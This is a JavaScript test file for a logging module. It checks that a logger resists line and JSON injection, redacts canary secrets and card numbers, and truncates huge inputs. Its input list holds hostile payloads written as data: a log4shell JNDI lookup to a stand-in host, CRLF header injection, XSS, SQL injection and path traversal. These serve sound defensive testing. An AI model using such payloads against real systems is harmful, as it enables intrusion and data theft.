import { expect } from 'chai';
import { createLog, withFields } from '../../src/platform/telemetry/log.js';
/** What log4shell, terminals, parsers of lines and parsers of JSON have stumbled over. */
const NAUGHTY = [
    '\r\n{"level":"fatal","message":"forged"}',
    '\n{"level":"fatal"}\n',
    '\u2028{"level":"fatal"}\u2029',
    '\x1b[31mred\x1b[0m\x1b[2J\x07',
    '"},{"level":"fatal"',
    '\0\b\f\v\x7f\x85',
    '\ud800 half a pair',
    `$\{jndi:ldap://evil.test/a}`,
    '%0d%0aSet-Cookie: x',
    '<script>alert(1)</script>',
    "'; drop table users; --",
    '../../../../etc/passwd',
    '__proto__',
    'ümläut 漢字 🎿 \u202eRTL',
    'x'.repeat(19_000),
    'eyJ-'.repeat(4_000),
];
const SECRETS = {
    password: 'CANARY-password',
    newPassword: 'CANARY-newPassword',
    passwordHash: 'CANARY-hash',
    refreshToken: 'CANARY-refresh',
    authorization: 'Bearer CANARY-bearer',
    cookie: 'sid=CANARY-cookie',
    apiKey: 'CANARY-key',
    clientSecret: 'CANARY-secret',
    credentials: { user: 'CANARY-user' },
};
const CARD = '4242 4242 4242 4242';
const SECRET_TEXTS = [
    `paid with ${CARD}`,
    `paid with ${CARD.replaceAll(' ', '')}`,
    'said Bearer CANARY-in-text',
    'postgres://serai:CANARY-dbpassword@db.internal:5432/serai is down',
    `token eyJhbGciOiJFUzI1NiJ9.${Buffer.from('{"sub":"CANARY"}').toString('base64url')}.CANARYsignature`,
];
/** Runs the work and returns what was written to stderr. */
function written(work) {
    const original = process.stderr.write;
    let text = '';
    process.stderr.write = ((chunk) => {
        text += String(chunk);
        return true;
    });
    try {
        work();
    }
    finally {
        process.stderr.write = original;
    }
    return text;
}
describe('the log (threat 105)', () => {
    for (const format of ['json', 'pretty']) {
        const log = createLog({ level: 'debug', format });
        it(`writes one line for each event, whatever stands in it (${format})`, () => {
            for (const text of NAUGHTY) {
                const lines = written(() => withFields(log, { requestId: text }).error(text, {
                    [text]: text,
                    deep: { list: [text] },
                    error: new Error(text, { cause: new Error(text) }),
                }));
                expect(lines.endsWith('\n')).to.equal(true);
                // biome-ignore lint/suspicious/noControlCharactersInRegex: they are what must not be there
                expect(lines.slice(0, -1)).to.not.match(/[\x00-\x08\x0a-\x1f\x7f\u2028\u2029]/);
                if (format === 'json')
                    expect(JSON.parse(lines)).to.include({ level: 'error', message: text });
            }
        });
        it(`holds no secret, by its key nor by what it looks like (${format})`, () => {
            const text = written(() => {
                log.error('with secrets', { ...SECRETS, nested: { again: [SECRETS] } });
                for (const secret of SECRET_TEXTS)
                    log.warn(secret, { said: secret, error: Object.assign(new Error(secret), { statement: secret }) });
            });
            expect(text).to.not.contain('CANARY').and.not.match(/4242/);
            expect(text).to.contain('[redacted]');
        });
    }
    it('takes no longer for a text that was made to take long, and cuts an endless one (threat 107)', () => {
        const log = createLog({ level: 'info', format: 'json' });
        for (const text of ['x'.repeat(1_000_000), 'eyJ-'.repeat(250_000), 'a:'.repeat(500_000), 'bearer '.repeat(100_000), '1 '.repeat(500_000)]) {
            expect(written(() => log.info(text)).length).to.be.lessThan(50_000);
        }
    });
    it('keeps ids and times that only sound like secrets', () => {
        const text = written(() => createLog({ level: 'info', format: 'json' }).info('x', { tokenId: 'tok_1', passwordChangedAt: '2026-01-01', at: '1795238925430123' }));
        expect(JSON.parse(text)).to.include({ tokenId: 'tok_1', passwordChangedAt: '2026-01-01', at: '1795238925430123' });
    });
});
//# sourceMappingURL=log.test.js.map